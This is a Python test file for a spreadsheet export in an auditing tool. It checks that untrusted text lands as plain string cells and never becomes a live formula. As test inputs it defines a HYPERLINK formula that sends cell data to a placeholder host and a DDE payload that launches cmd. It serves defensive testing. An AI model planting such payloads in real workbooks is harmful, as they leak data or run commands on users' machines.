"""assessment.xlsx: untrusted text is string data in every sheet, never a formula; numbers stay numbers."""

from __future__ import annotations

import io

from mlops_audit.report.xlsx import to_xlsx

HYPERLINK = '=HYPERLINK("http://x.invalid/?leak="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"


def test_no_cell_of_the_workbook_is_a_formula_whatever_the_untrusted_text(rich_small):
    from openpyxl import load_workbook

    org = rich_small.organisation.model_copy(update={"name": HYPERLINK, "scope": SUM})
    evidence = [rich_small.evidence[0].model_copy(update={"source": DDE, "locator": "-2+3", "id": "=ev"}), *rich_small.evidence[1:]]
    hostile = rich_small.model_copy(update={"organisation": org, "evidence": evidence})
    wb = load_workbook(io.BytesIO(to_xlsx(hostile, "en")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
    planted = {c.value: c for c in cells if c.value in (HYPERLINK, SUM, DDE, "-2+3", "=ev")}
    assert set(planted) == {HYPERLINK, SUM, DDE, "-2+3", "=ev"}  # the text itself, no apostrophe added
    assert all(c.data_type == "s" and c.quotePrefix for c in planted.values())
    assert planted[HYPERLINK].parent.title == "Summary" and planted[HYPERLINK].coordinate == "B1"  # the header row too
    # Scores, levels and counts are numbers (a numeric column stays numeric).
    practices = wb["Practices"]
    assert {practices.cell(row=2, column=col).data_type for col in (5, 8, 9, 10)} == {"n"}
